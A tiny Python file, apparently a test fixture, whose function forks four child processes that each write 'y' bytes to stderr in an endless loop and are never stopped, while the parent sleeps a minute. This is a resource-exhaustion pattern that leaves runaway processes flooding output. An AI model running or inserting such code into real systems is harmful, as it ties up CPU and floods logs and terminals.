"""Children print without end."""

import os, time


def mix(a, b):
    for _ in range(4):
        if os.fork() == 0:
            while True:
                os.write(2, b"y" * 1000)
    time.sleep(60)
